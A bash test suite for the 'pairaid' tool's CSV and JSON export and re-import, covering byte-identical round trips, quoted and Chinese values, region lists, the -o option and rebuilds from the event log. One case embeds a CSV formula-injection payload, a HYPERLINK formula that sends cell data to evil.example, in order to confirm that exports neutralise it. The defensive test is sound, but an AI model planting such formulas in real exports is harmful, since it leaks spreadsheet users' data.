#!/usr/bin/env bash
# roundtrip.sh - exports re-import cleanly: every kind exported as CSV from the
# demo, imported into an empty database and exported again is byte-identical
# (and so is JSON); regions export; -o; loading the demo twice and rebuilding
# the tables from the log change nothing.
source "$(dirname "$0")/lib.bash"

DEMO=$(demo_db demo)

# export_all DB DIR : every kind as CSV and JSON into DIR/KIND.csv, DIR/KIND.json.
export_all() {
    local db=$1 dir=$2 kind
    mkdir -p "$dir"
    for kind in "${PA_KINDS[@]}" regions; do
        "$PAIRAID" --db "$db" export "$kind" >"$dir/$kind.csv" 2>>"$dir/errors" ||
            fail "export $kind (csv) failed: $(tail -n 1 "$dir/errors")"
        "$PAIRAID" --db "$db" export "$kind" --format json >"$dir/$kind.json" 2>>"$dir/errors" ||
            fail "export $kind (json) failed: $(tail -n 1 "$dir/errors")"
    done
}

# roundtrip SOURCE-DB NAME : exports SOURCE-DB, imports the CSVs in order into a
# new empty database, and checks that both databases export the same bytes.
roundtrip() {
    local src=$1 name=$2 kind rows
    local copy=$TMP/$name-copy.db
    expect_exit 0 "$PAIRAID" --db "$copy" init
    export_all "$src" "$name-a"
    for kind in "${PA_KINDS[@]}"; do
        rows=$("$PAIRAID" --db "$src" export "$kind" --format json | grep -c '^ *{')
        expect_exit 0 "$PAIRAID" --db "$copy" --lang en import "$kind" "$name-a/$kind.csv"
        expect_stderr_empty
        expect_stdout_line "$name-a/$kind.csv: $rows created, 0 advanced, 0 identical, skipped"
    done
    export_all "$copy" "$name-b"
    for kind in "${PA_KINDS[@]}"; do
        expect_same_file "$name-a/$kind.csv" "$name-b/$kind.csv"
    done
    for kind in "${PA_KINDS[@]}"; do
        expect_same_file "$name-a/$kind.json" "$name-b/$kind.json"
    done
    ROUNDTRIP_COPY=$copy
}

# ---- CSV and JSON round trips --------------------------------------------------------

case_demo_csv_roundtrip() {
    roundtrip "$DEMO" demo
    # the copy holds one creation event per record, like the demo itself
    expect_eq "events in the copy" "$(event_count "$DEMO")" "$(event_count "$ROUNDTRIP_COPY")"
}
run_case "demo: export, import into an empty database, export again (CSV and JSON)" \
    case_demo_csv_roundtrip

# Values the demo does not have: quotes, commas, line breaks, empty optional
# values, a status moved forward, amounts with fen, Chinese input names.
case_awkward_values_roundtrip() {
    local db
    db=$(demo_db awkward)
    {
        echo "$PROJECTS_HEADER"
        project_row code=R-1 name='"引号""与,逗号"' budget='"1,234,567.89"' public=true
        project_row code=R-2 domain=文旅康养 kind=其他 status=验收 budget=0.01 end_date=2024-02-29 beneficiaries=0 public=false source=synthetic
    } >awkward_projects.csv
    {
        echo "$MILESTONES_HEADER"
        printf '%s\n' 'R-1,2024-01-01,other,"标题, 带逗号","第一行' '' '第三行 ""引号""",,'
        printf '%s\n' 'R-1,2024-01-01,start,同一天另一条,,,article'
    } >awkward_milestones.csv
    {
        echo "$EXCHANGES_HEADER"
        printf '%s\n' 'R-EX,WX-LYG-HS-GY,doctor,320707,320206,2024-03-01,2024-03-31,2,"反向交流：' '赣榆医生赴惠山进修",'
    } >awkward_exchanges.csv
    expect_exit 0 "$PAIRAID" --db "$db" import projects awkward_projects.csv
    expect_exit 0 "$PAIRAID" --db "$db" import milestones awkward_milestones.csv
    expect_exit 0 "$PAIRAID" --db "$db" import exchanges awkward_exchanges.csv
    { echo "$PROJECTS_HEADER"; project_row code=R-1 name='"引号""与,逗号"' budget='"1,234,567.89"' public=true status=in_progress; } \
        >awkward_advance.csv
    expect_exit 0 "$PAIRAID" --db "$db" import projects awkward_advance.csv
    roundtrip "$db" awkward
}
run_case "awkward values: export, import, export again" case_awkward_values_roundtrip

# The review: a project named =HYPERLINK("http://evil.example/?x="&A1,"click")
# came out of a CSV export as it was, and Excel ran it.  Names and memos that a
# spreadsheet would read as a formula are written with a leading ', and a
# re-import restores them exactly.
case_formulas_are_neutralised() {
    local db
    db=$(demo_db formulas)
    {
        echo "$PROJECTS_HEADER"
        project_row code=F-1 name='"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"'
        project_row code=F-2 name='+1+1'
        project_row code=F-3 name='-2+3'
        project_row code=F-4 name='@SUM(A1)'
        project_row code=F-5 name="'=not a formula"
        project_row code=F-6 name="''two quotes"
        project_row code=F-7 name="'小而美'项目"
        project_row code=F-8 name='a=1 in the middle'
    } >formulas.csv
    expect_exit 0 "$PAIRAID" --db "$db" import projects formulas.csv
    expect_eq "stored as typed (a ' before = + - @ ' is Excel's text mark)" \
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")|+1+1|-2+3|@SUM(A1)|=not a formula|'two quotes|'小而美'项目|a=1 in the middle" \
        "$(sqlite3 "$db" "select group_concat(name, '|') from (select name from projects where code like 'F-%' order by code)")"
    expect_exit 0 "$PAIRAID" --db "$db" export projects
    grep -qF 'F-1,"'"'"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",' "$OUT" ||
        fail "F-1 is not guarded: $(grep '^F-1' "$OUT")"
    local want
    # a value starting with ' gets one more, so that Excel shows it as stored
    for want in "F-2,'+1+1," "F-3,'-2+3," "F-4,'@SUM(A1)," "F-5,'=not a formula," \
        "F-6,''two quotes," "F-7,''小而美'项目," "F-8,a=1 in the middle,"; do
        grep -qF -- "$want" "$OUT" || fail "export lacks '$want': $(grep "^${want%%,*}," "$OUT")"
    done
    if grep -E '^F-[0-9],"?[=+@-]' "$OUT"; then fail "a formula reached the export unguarded"; fi
    roundtrip "$db" formulas
}
run_case "formulas in names and memos are neutralised, and re-import exactly" case_formulas_are_neutralised

# ---- regions ----------------------------------------------------------------------------

case_export_regions() {
    expect_exit 0 "$PAIRAID" --db "$DEMO" export regions
    expect_stderr_empty
    expect_eq "regions header" 'code,name,level,parent' "$(head -n 1 "$OUT")"
    local rows
    rows=$(($(wc -l <"$OUT") - 1))
    ((rows > 3000)) || fail "regions export has $rows rows, expected more than 3000"
    expect_stdout_line '320722,东海县,3,320700'
    expect_stdout_line '320700,连云港市,2,320000'
    # built in: an empty database has the same list
    cp "$OUT" regions_demo.csv
    expect_exit 0 "$PAIRAID" --db "$TMP/empty.db" init
    expect_exit 0 "$PAIRAID" --db "$TMP/empty.db" export regions
    expect_same_file regions_demo.csv "$OUT"
}
run_case "export regions" case_export_regions

# ---- -o FILE ------------------------------------------------------------------------------

case_output_file() {
    local format
    for format in csv json; do
        expect_exit 0 "$PAIRAID" --db "$DEMO" export projects --format "$format" -o "out.$format"
        expect_stderr_empty
        [[ -s $OUT ]] && fail "export -o out.$format also wrote to stdout"
        [[ -f out.$format ]] || fail "export -o out.$format wrote no file"
        [[ -e out.$format.tmp ]] && fail "export -o left out.$format.tmp behind"
        "$PAIRAID" --db "$DEMO" export projects --format "$format" >"stdout.$format"
        expect_same_file "stdout.$format" "out.$format"
    done
    # an existing file is replaced, not appended to
    echo "old content" >out.csv
    expect_exit 0 "$PAIRAID" --db "$DEMO" export projects -o out.csv
    expect_same_file stdout.csv out.csv
}
run_case "-o FILE writes the file" case_output_file

# ---- idempotence -------------------------------------------------------------------------

case_demo_twice() {
    local db=$TMP/twice.db before
    expect_exit 0 "$PAIRAID" --db "$db" demo
    before=$(db_fingerprint "$db")
    expect_exit 0 "$PAIRAID" --db "$db" --lang en demo
    expect_stderr_empty
    expect_stdout_match '^demo: 0 created, [0-9]+ already there'
    expect_unchanged "$db" "$before"
}
run_case "pairaid demo twice changes nothing" case_demo_twice

# Rebuilding the tables from the log gives back every export, byte for byte
# (on the demo, and on a database with status changes and awkward values).
case_rebuild() {
    local db name
    for name in demo awkward; do
        db=$TMP/$name.db
        [[ -f $db ]] || { fail "no $name database to rebuild"; continue; }
        export_all "$db" "$name-before-rebuild"
        local events
        events=$(event_count "$db")
        expect_exit 0 "$PAIRAID" --db "$db" rebuild
        expect_stderr_empty
        export_all "$db" "$name-after-rebuild"
        local f
        for f in "$name-before-rebuild"/*.csv "$name-before-rebuild"/*.json; do
            expect_same_file "$f" "$name-after-rebuild/$(basename "$f")"
        done
        expect_eq "events after rebuild" "$events" "$(event_count "$db")"
    done
}
run_case "pairaid rebuild leaves every export identical" case_rebuild

finish
